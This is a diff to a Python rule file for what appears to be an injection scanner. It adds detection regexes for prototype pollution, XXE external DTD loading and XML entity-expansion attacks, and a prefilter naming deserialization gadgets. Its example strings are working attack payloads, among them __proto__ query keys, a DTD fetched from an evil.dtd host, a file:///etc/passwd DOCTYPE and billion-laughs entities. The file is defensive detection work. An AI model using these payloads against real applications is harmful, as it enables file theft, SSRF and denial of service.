     # A key that reaches every object's prototype when merged into one: `__proto__[isAdmin]=1`,
-    # `{"__proto__": {...}}`, `constructor[prototype][x]=`. Code that mentions prototypes uses
-    # dots (`Foo.prototype.bar`), not keys.
+    # `{"__proto__": {...}}`, `constructor[prototype][x]=`, `?constructor.prototype.x=`. Code
+    # that guards against it names the key in a comparison or a list, not as a key.
     pattern=(
-        r"(?:\[|\"|'|^|[?&;,{])\s*__proto__\s*(?:\]|\"|'|\[|\.|=)"
-        r"|\bconstructor\s*(?:\[\s*['\"]?prototype['\"]?\s*\]|\.prototype\s*\[|\"\s*:\s*\{\s*\"prototype\")"
+        r"[\"']__proto__[\"']\s*:|\[\s*[\"']?__proto__[\"']?\s*\]\s*(?:\[|=|\.)"
+        r"|(?:^|[?&;])\s*__proto__\s*(?:\[|\.|=)"
+        r"|\.__proto__\s*(?:\[[^\]]*\]|\.\w+)\s*=[^=]"
+        r"|\bconstructor\s*\[\s*[\"']?prototype[\"']?\s*\]\s*(?:\[|=|\.)"
+        r"|\[\s*constructor\s*\]\s*\[\s*prototype\s*\]"
+        r"|(?:^|[?&;])\s*constructor\.prototype\.\w+"
+        r"|[\"']constructor[\"']\s*:\s*\{\s*[\"']prototype[\"']\s*:"
     ),
     severity=_S,
     score=0.75,
@@ -384,47 +519,98 @@ OBJECT_PROTOTYPE_POLLUTION = Rule(
         "?constructor[prototype][isAdmin]=1",
         "x=1&__proto__.polluted=1",
         '{"constructor": {"prototype": {"admin": true}}}',
+        "?a[constructor][prototype]=image",
+        "?constructor.prototype.isAdmin=true",
+        'Object.__proto__["x"]=1',
     ),
     counterexamples=(
         "Foo.prototype.bar = function () {}",
         "Object.getPrototypeOf(obj) === Foo.prototype",
         "console.log(obj.constructor.name)",
         "what is the __proto__ property in JavaScript?",
+        "if (key === '__proto__' || key === 'constructor') continue;",
+        "Blocked keys: ['__proto__', 'constructor', 'prototype']",
+        'The "__proto__" key is ignored by our JSON parser.',
+        "this.constructor.prototype[method] = fn;",
     ),
+)
+
+# An entity reference other than XML's five predefined ones (amp, lt, gt, quot, apos).
+_OWN_ENTITY = (
+    r"&(?:[b-fh-km-pr-z_]|a[a-ln-oq-z_]|am[a-oq-z_]|amp[\w.-]|ap[a-np-z_]|apo[a-rt-z_]"
+    r"|apos[\w.-]|g[a-su-z_]|gt[\w.-]|l[a-su-z_]|lt[\w.-]|q[a-tv-z_]|qu[a-np-z_]|quo[a-su-z_]"
+    r"|quot[\w.-])[\w.-]*;"
+)
+_SYSTEM_URL = (
+    r"(?i)<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s+[\"'](?:https?|ftp|file|jar|netdoc|gopher|php|expect"
+    r"|data):"
 )
 
 XXE_EXTERNAL_DTD = Rule(
     id="xxe.external_dtd",
     code=XXE,
-    # A document type fetched by URL from wherever the payload says: the parser reaches out
-    # (SSRF) and the fetched DTD defines the entities that carry files back. Published document
-    # types are named with PUBLIC and a catalogue identifier; a SYSTEM URL is the attack's form.
-    pattern=r"(?i)<!DOCTYPE\s+[\w:.-]+\s+SYSTEM\s+[\"'](?:https?|ftp|file|jar|netdoc|gopher|php|expect|data):",
+    # A document type fetched by URL and an entity the fetched DTD must define: the parser
+    # reaches out (SSRF) and the entity carries a file back. Published document types are named
+    # with PUBLIC identifiers, and documents that name one by SYSTEM URL (Java properties, TestNG
+    # suites) use only XML's own entities. A scheme-relative or UNC system id has no such use.
+    pattern=(
+        _SYSTEM_URL
+        + r"[^\"']*[\"']\s*>.*"
+        + _OWN_ENTITY
+        + r"|(?i)<!DOCTYPE\s+[\w:.-]+\s+(?:SYSTEM|PUBLIC\s+[\"'][^\"']*[\"'])\s+[\"'](?://|\\\\)"
+    ),
     severity=_S,
     score=0.75,
-    message="XML document type loaded from a URL (external DTD)",
+    message="XML document type loaded from a URL with entities of its own (external DTD)",
     examples=(
         '<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://x.example/evil.dtd"><data>&e;</data>',
-        "<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",
+        '<!DOCTYPE r SYSTEM "//x.example/evil.dtd"><r/>',
+        "<!DOCTYPE r SYSTEM '\\\\\\\\198.51.100.1\\\\share\\\\x.dtd'><r/>",
     ),
     counterexamples=(
         '<!DOCTYPE note SYSTEM "Note.dtd">',
         '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
         '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
         "<!DOCTYPE html>",
+        '<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">'
+        '<properties><entry key="a">x &amp; y</entry></properties>',
+        '<!DOCTYPE suite SYSTEM "https://testng.org/testng-1.0.dtd"><suite name="All"></suite>',
     ),
+)
+
+XXE_EXTERNAL_DTD_ALONE = Rule(
+    id="xxe.external_dtd_alone",
+    code=XXE,
+    # The fetch alone: a supporting signal, since some published types are named this way.
+    pattern=_SYSTEM_URL,
+    severity=_S,
+    score=0.45,
+    message="XML document type loaded from a URL",
+    examples=("<!DOCTYPE r SYSTEM 'file:///etc/passwd'>",),
+    counterexamples=('<!DOCTYPE note SYSTEM "Note.dtd">',),
 )
 
 XXE_ENTITY_EXPANSION = Rule(
     id="xxe.entity_expansion",
     code=XXE,
-    # "Billion laughs": each entity repeats the one before, so a few lines expand to gigabytes.
-    pattern=r"(?i)<!ENTITY\s+[\w.-]+\s+[\"']\s*(?:&[\w.-]+;\s*){3,}",
+    # "Billion laughs": entity after entity made of nothing but references to the one before,
+    # so a few lines expand to gigabytes. Composed text entities have words or spaces between.
+    pattern=(
+        r"(?i)<!ENTITY\s+[\w.-]+\s+[\"'](?:&[\w.-]+;){2,}[\"']\s*>\s*"
+        r"<!ENTITY\s+[\w.-]+\s+[\"'](?:&[\w.-]+;){2,}[\"']"
+    ),
     severity=_S,
     score=0.75,
-    message="XML entity defined as repeats of another (entity expansion)",
-    examples=('<!DOCTYPE lolz [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;">]><lolz>&b;</lolz>',),
-    counterexamples=('<!ENTITY copy "&#169;">', '<!ENTITY company "Acme &amp; Sons">'),
+    message="XML entities defined as repeats of another (entity expansion)",
+    examples=(
+        '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><l>&c;</l>',
+        '<!ENTITY a1 "&a0;&a0;"><!ENTITY a2 "&a1;&a1;">',
+    ),
+    counterexamples=(
+        '<!ENTITY copy "&#169;">',
+        '<!ENTITY company "Acme &amp; Sons">',
+        '<!ENTITY signature "&name; &title; &company;"><!ENTITY footer "&signature; &address;">',
+    ),
 )
 
 RULES: tuple[Rule, ...] = (
@@ -440,7 +626,20 @@ RULES: tuple[Rule, ...] = (
     OBJECT_SERIALISED,
     OBJECT_PROTOTYPE_POLLUTION,
     XXE_EXTERNAL_DTD,
+    XXE_EXTERNAL_DTD_ALONE,
     XXE_ENTITY_EXPANSION,
+)
+
+# What every match of these rules contains: a text without any of it skips their scan. A test
+# holds each rule's examples to it, so a new rule cannot be skipped unseen.
+CUE = (
+    r"[{}$#@|*!]|(?i:%0[0ad]|%25|%u000|%5c|%e5%98|%c4%8)|\x00|[\x{560A}\x{560D}]|\\r\\n|__"
+    r"|<[%!]|(?i)<esi"
+    r"|\.class\b|forName|java\.|ognl|rO0AB|AAEAAAD|(?i)aced0005|(?i)\bac ed 00 05|mainModule"
+    r"|child_process|constructor|(?i)\bdoc\s*\(|(?i)child::|\)\s*\(|'\s*\)*\s*(?i:or|and)\s"
+    r"|'\s*\)?\s*\]|\b[OC]:\+?\d|\n(?:system|popen|check_output|call|exec|eval|getattr)\n"
+    r"|JdbcRowSetImpl|ObjectDataProvider|ExpandedWrapper|XamlReader|TypeConfuseDelegate"
+    r"|TextFormattingRunProperties|(?i)(?:name|string-length|substring)\s*\(\s*name"
 )
 
 FAMILY_MESSAGES = {
